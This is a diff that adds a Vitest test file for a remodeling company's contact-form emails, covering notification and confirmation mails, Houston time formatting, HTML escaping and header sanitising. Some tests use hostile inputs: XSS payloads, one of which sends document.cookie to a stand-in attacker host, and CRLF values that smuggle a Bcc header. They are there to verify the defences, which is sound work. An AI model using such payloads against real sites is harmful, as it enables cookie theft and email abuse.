@@ -1,0 +1,193 @@
+import { describe, expect, test } from "vitest";
+import { company } from "../../content/company.ts";
+import {
+  NO_MESSAGE,
+  escapeHtml,
+  formatLeadTime,
+  leadConfirmationMail,
+  leadNotificationMail,
+  type LeadForMail,
+} from "./messages.server.ts";
+
+const lead: LeadForMail = {
+  id: "3f0c2a9e-7b1d-4f55-9a61-0d6f2c1e8b77",
+  // 16:05 UTC in winter is 10:05 AM Central Standard Time.
+  created_at: "2026-11-22T16:05:00.000Z",
+  from_name: "Maria Gonzalez",
+  email: "maria@example.net",
+  phone: "(832) 555-0199",
+  subject: "Bathroom remodel",
+  message: "Hall bath: new tile and a walk-in shower.\nWe are home after 4 pm.",
+  source: "/contact",
+};
+const options = { to: "owner@example.com", from: "Website <no-reply@example.com>", siteUrl: "https://www.example.com/" };
+
+describe("leadNotificationMail", () => {
+  const mail = leadNotificationMail(lead, options);
+
+  test("goes to the business inbox, replies go to the homeowner", () => {
+    expect(mail.to).toBe("owner@example.com");
+    expect(mail.from).toBe("Website <no-reply@example.com>");
+    expect(mail.replyTo).toBe("maria@example.net");
+    expect(mail.subject).toBe("New estimate request: Bathroom remodel — Maria Gonzalez");
+  });
+
+  test("text and HTML list every field, the page and the Houston time", () => {
+    const values = [
+      "Maria Gonzalez",
+      "maria@example.net",
+      "(832) 555-0199",
+      "Bathroom remodel",
+      "Hall bath: new tile and a walk-in shower.",
+      "We are home after 4 pm.",
+      "https://www.example.com/contact",
+      "Sunday, November 22, 2026 at 10:05 AM CST",
+    ];
+    for (const value of values) {
+      expect(mail.text).toContain(value);
+      expect(mail.html).toContain(escapeHtml(value));
+    }
+    expect(mail.text).toContain(lead.id);
+  });
+
+  test("template params keep the form's field names", () => {
+    expect(mail.template).toEqual({
+      kind: "lead-notification",
+      params: {
+        from_name: "Maria Gonzalez",
+        email: "maria@example.net",
+        phone: "(832) 555-0199",
+        subject: "Bathroom remodel",
+        message: lead.message,
+        source: "https://www.example.com/contact",
+        received_at: "Sunday, November 22, 2026 at 10:05 AM CST",
+        to_email: "owner@example.com",
+        reply_to: "maria@example.net",
+      },
+    });
+  });
+
+  test("an empty message says so", () => {
+    const empty = leadNotificationMail({ ...lead, message: "  " }, options);
+    expect(empty.text).toContain(NO_MESSAGE);
+    expect(empty.html).toContain(escapeHtml(NO_MESSAGE));
+    expect(empty.template.params.message).toBe(NO_MESSAGE);
+  });
+
+  test("HTML escapes everything the visitor typed; the text part keeps it as typed", () => {
+    const hostile: LeadForMail = {
+      ...lead,
+      from_name: `Eve <script>alert("x")</script>`,
+      email: `eve@example.net"><img src=x onerror=alert(1)>`,
+      phone: `<b>555</b>`,
+      subject: `<img src=x onerror=alert(1)> & "quotes" 'single'`,
+      message: `<script>document.location='https://evil.example/'+document.cookie</script>`,
+      source: `/contact"><script>alert(2)</script>`,
+    };
+    const evil = leadNotificationMail(hostile, options);
+    expect(evil.html).not.toMatch(/<script/i);
+    expect(evil.html).not.toMatch(/<img/i);
+    expect(evil.html).not.toMatch(/<b>555/);
+    expect(evil.html).toContain("&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;");
+    expect(evil.html).toContain("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot; &#39;single&#39;");
+    expect(evil.text).toContain(hostile.message);
+    // The only tags are the template's own.
+    const tags = [...evil.html.matchAll(/<([a-z0-9]+)/gi)].map((m) => m[1]!.toLowerCase());
+    expect(new Set(tags)).toEqual(
+      new Set(["html", "head", "meta", "title", "body", "div", "h1", "table", "tr", "th", "td", "a", "h2", "p"]),
+    );
+  });
+
+  test("line breaks in the subject or name cannot reach a header", () => {
+    const split = leadNotificationMail({ ...lead, subject: "Hi\r\nBcc: victim@example.org", from_name: "A\nB" }, options);
+    expect(split.subject).toBe("New estimate request: Hi Bcc: victim@example.org — A B");
+    expect(split.subject).not.toMatch(/[\r\n]/);
+    expect(split.replyTo).not.toMatch(/[\r\n]/);
+  });
+
+  test("a very long subject is shortened in the header but kept in the body", () => {
+    const long = "x".repeat(500);
+    const shortened = leadNotificationMail({ ...lead, subject: long }, options);
+    expect(shortened.subject.length).toBeLessThanOrEqual(200);
+    expect(shortened.text).toContain(long);
+  });
+
+  test("the payload survives JSON (it is stored as JSON)", () => {
+    expect(JSON.parse(JSON.stringify(mail))).toEqual(mail);
+  });
+});
+
+describe("leadConfirmationMail", () => {
+  const mail = leadConfirmationMail(lead, { from: options.from, siteUrl: options.siteUrl });
+
+  test("goes to the homeowner; replies reach the company", () => {
+    expect(mail.to).toBe("maria@example.net");
+    expect(mail.from).toBe(options.from);
+    expect(mail.replyTo).toBe(company.email);
+    expect(mail.subject).toBe(`We received your estimate request — ${company.name}`);
+  });
+
+  test("says it arrived and what happens next, with the company's phone and email", () => {
+    for (const body of [mail.text, mail.html]) {
+      expect(body).toContain("Maria,");
+      expect(body).toMatch(/request for a free estimate has arrived/);
+      expect(body).toMatch(/within one business day/);
+      expect(body).toMatch(/take measurements/);
+      expect(body).toMatch(/written quote/);
+      expect(body).toMatch(/free, with no obligation/);
+      expect(body).toContain(company.phone.display);
+      expect(body).toContain(company.email);
+      expect(body).toContain("https://www.example.com");
+    }
+    expect(mail.html).toContain(`href="${company.phone.href}"`);
+  });
+
+  test("includes a copy of what they sent", () => {
+    for (const value of ["Maria Gonzalez", "maria@example.net", "(832) 555-0199", "Bathroom remodel", "We are home after 4 pm."]) {
+      expect(mail.text).toContain(value);
+      expect(mail.html).toContain(escapeHtml(value));
+    }
+  });
+
+  test("is short and the visitor's text cannot inject markup or headers", () => {
+    expect(mail.text.split("\n").length).toBeLessThan(40);
+    const evil = leadConfirmationMail(
+      { ...lead, from_name: "<script>x</script>", subject: "Free money\r\nBcc: a@b.c", message: "<a href=https://spam.example>win</a>" },
+      options,
+    );
+    expect(evil.html).not.toMatch(/<script|<a href=https:\/\/spam/i);
+    // The subject is ours, not the visitor's.
+    expect(evil.subject).toBe(`We received your estimate request — ${company.name}`);
+  });
+
+  test("template params keep the form's field names and add the company's contacts", () => {
+    expect(mail.template.kind).toBe("lead-confirmation");
+    expect(mail.template.params).toMatchObject({
+      from_name: "Maria Gonzalez",
+      email: "maria@example.net",
+      phone: "(832) 555-0199",
+      subject: "Bathroom remodel",
+      message: lead.message,
+      source: "https://www.example.com/contact",
+      received_at: "Sunday, November 22, 2026 at 10:05 AM CST",
+      to_email: "maria@example.net",
+      company_phone: company.phone.display,
+      company_email: company.email,
+    });
+  });
+
+  test("a name-less greeting still reads well", () => {
+    expect(leadConfirmationMail({ ...lead, from_name: " " }, options).text.startsWith("Hello,")).toBe(true);
+  });
+});
+
+describe("formatLeadTime", () => {
+  test("uses Houston's time zone, summer and winter", () => {
+    expect(formatLeadTime("2026-07-04T15:30:00.000Z")).toBe("Saturday, July 4, 2026 at 10:30 AM CDT");
+    expect(formatLeadTime("2026-01-01T05:59:00.000Z")).toBe("Wednesday, December 31, 2025 at 11:59 PM CST");
+  });
+
+  test("keeps an unparsable value as it is", () => {
+    expect(formatLeadTime("not a date")).toBe("not a date");
+  });
+});
